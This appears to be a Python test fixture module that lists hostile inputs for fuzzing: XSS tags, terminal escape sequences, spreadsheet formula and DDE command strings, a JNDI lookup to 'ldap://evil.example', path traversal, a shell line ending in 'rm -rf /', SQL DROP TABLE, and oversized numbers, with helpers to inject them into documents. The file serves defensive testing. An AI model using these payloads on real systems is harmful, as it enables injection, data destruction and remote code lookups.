"""Texts that are meant to be more than texts, numbers that are meant to be too much."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

MARK = "PWNED"
TEXTS = {
    "script": f"</script><script>alert('{MARK}')</script>",
    "image": f"<img src=x onerror={MARK}()>",
    "colours": f"\x1b[31m{MARK}\x1b[0m\x1b[2J",
    "title": f"\x1b]0;{MARK}\x07",
    "link": f"\x1b]8;;https://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\",
    "c1": f"\x9b31m{MARK}",
    "line": f"fine\n2026-01-01 ERROR {MARK}",
    "return": f"fine\r{MARK}",
    "separator": f"fine\u2028{MARK}",
    "backwards": f"\u202e{MARK}\u2066",
    "nul": f"a\x00{MARK}",
    "markup": f"[red]{MARK}[/red] [link=https://evil.example]x[/link]",
    "formula": f'=HYPERLINK("https://evil.example","{MARK}")',
    "command": f"+cmd|' /C {MARK}'!A0",
    "jinja": "{{ ''.__class__.__mro__ }}{% raw %}" + MARK,
    "format": "{0.__class__}%(x)s${jndi:ldap://evil.example}" + MARK,
    "jsonata": f"{{% $states.input.{MARK} %}}",
    "path": f"../../../../tmp/{MARK}",
    "absolute": f"/etc/{MARK}",
    "windows": f"..\\..\\{MARK}",
    "shell": f"$(touch {MARK}); `touch {MARK}` && rm -rf /",
    "sql": f"'; DROP TABLE runs; -- {MARK}",
    "workflow": f"::set-output name=x::{MARK}",
    "surrogate": f"\ud800{MARK}",
    "long": MARK + "A" * 100_000,
}
NUMBERS = {
    "1e400": "1e400",
    "-1e400": "-1e400",
    "five thousand digits": "9" * 5000,
    "four thousand digits": "1" + "0" * 4000,
    "tiny": "1e-400",
    "infinite": ".inf",
    "not a number": ".nan",
    "hexadecimal": "0x" + "f" * 4000,
    "text of a huge exponent": '"1E+99999999"',
    "text of a tiny exponent": '"1E-99999999"',
    "text of many digits": '"' + "9" * 5000 + '"',
    "text of many places": '"0.' + "1" * 5000 + '"',
}
TERMINAL = ("\x1b", "\x07", "\x9b", "\x00", "\r", "\u202e", "\u2066", "\u2028")
"""What no terminal may get of a text of somebody's."""

Path = tuple[str | int, ...]


def leaves(document: Any, path: Path = ()) -> Iterator[tuple[Path, Any]]:
    """Every value of a document that holds no others, with its place."""
    if isinstance(document, dict | list):
        inner = document.items() if isinstance(document, dict) else enumerate(document)
        for name, value in inner:
            yield from leaves(value, (*path, name))
    else:
        yield path, document


def replaced(document: Any, path: Path, value: Any) -> Any:
    """The document with another value at a place."""
    if not path:
        return value
    name, *rest = path
    changed: Any = dict(document) if isinstance(document, dict) else list(document)
    changed[name] = replaced(changed[name], tuple(rest), value)
    return changed
